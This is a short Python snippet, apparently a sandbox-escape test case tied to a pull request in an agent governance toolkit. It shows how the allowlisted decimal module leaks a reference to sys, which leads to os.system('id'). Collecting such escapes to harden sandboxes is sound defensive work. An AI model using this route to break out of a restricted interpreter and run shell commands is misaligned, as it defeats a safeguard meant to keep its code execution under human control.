# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631 (allowlisted stdlib modules leak references)
# Family: module-attribute
# What: decimal module globals: decimal.sys / _pydecimal fallback reaches sys.modules
import decimal

d = decimal.sys if hasattr(decimal, "sys") else decimal.__loader__.load_module("sys")
d.modules["os"].system("id")
